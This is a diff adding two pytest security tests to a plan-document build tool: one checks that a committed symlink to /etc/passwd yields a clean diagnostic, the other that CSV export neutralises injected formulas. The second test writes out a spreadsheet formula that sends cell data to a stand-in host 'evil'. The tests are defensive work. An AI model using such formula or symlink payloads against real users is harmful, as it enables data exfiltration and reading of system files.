@@ -5,6 +5,8 @@ from __future__ import annotations
 
 import re
 import shutil
+import subprocess
+import sys
 import time
 from pathlib import Path
 
@@ -12,7 +14,7 @@ import pytest
 
 from plandoc.pipeline import build, compile_plan
 
-from plans import MINI
+from plans import MINI, ROOT
 
 
 def codes(plan_dir: Path) -> list[str]:
@@ -281,3 +283,39 @@ def test_bidi_controls_are_linted_wherever_they_are(mini_copy, char):
     assert [d.code for d in diags] == ["PD367"]
     line = ind.read_text(encoding="utf-8").splitlines()[diags[0].line - 1]
     assert line[diags[0].column - 1] == char
+
+
+@pytest.mark.parametrize("target", ["/etc/passwd", "../../../etc/passwd"])
+def test_diff_of_a_revision_with_a_symlink_out_of_the_plan_is_a_diagnostic(tmp_path, target):
+    repo = tmp_path / "repo"
+    shutil.copytree(MINI, repo / "plan")
+    git = ["git", "-C", str(repo), "-c", "user.email=t@example.invalid", "-c", "user.name=t"]
+    subprocess.run([*git, "init", "-q"], check=True)
+    subprocess.run([*git, "add", "-A"], check=True)
+    subprocess.run([*git, "commit", "-qm", "v1"], check=True)
+    (repo / "plan" / "chapters" / "ch01.xml").unlink()
+    (repo / "plan" / "chapters" / "ch01.xml").symlink_to(target)
+    subprocess.run([*git, "commit", "-qam", "v2"], check=True)
+    r = subprocess.run([sys.executable, str(ROOT / "build.py"), "diff", "HEAD~1", "HEAD"],
+                       capture_output=True, text=True, cwd=repo)
+    assert r.returncode == 1, r.stderr
+    assert "Traceback" not in r.stderr and "root:" not in r.stderr + r.stdout
+    assert "HEAD:plan/chapters/ch01.xml: error[PD002]" in r.stderr
+
+
+def test_csv_neutralises_formulas_and_keeps_numbers(mini_copy, tmp_path):
+    import csv
+    ind = mini_copy / "indicators.xml"
+    ind.write_text(ind.read_text(encoding="utf-8").replace(
+        "<name>地区生产总值</name>", '<name>=HYPERLINK("http://evil/?"&amp;A1,"x")</name>'), encoding="utf-8")
+    ch = mini_copy / "chapters" / "ch01.xml"
+    ch.write_text(ch.read_text(encoding="utf-8").replace("<v>3000</v>", "<v>@SUM(1)</v>")
+                  .replace("<v>2107.7</v>", "<v>-33</v>").replace("<v>54</v>", "<v>-</v>"), encoding="utf-8")
+    compiled = compile_plan(mini_copy)
+    build(compiled.plan, tmp_path / "out", ["csv"])
+    with open(tmp_path / "out" / "indicators.csv", encoding="utf-8-sig", newline="") as f:
+        cells = [c for row in csv.reader(f) for c in row]
+    assert "'=HYPERLINK(\"http://evil/?\"&A1,\"x\")" in cells and "'@SUM(1)" in cells
+    assert "-33" in cells and "-" in cells
+    assert not any(c[:1] in "=+@\t\r" and c != "+" for c in cells if c)
+    assert not any(c.startswith("-") and c not in ("-", "-33") for c in cells)
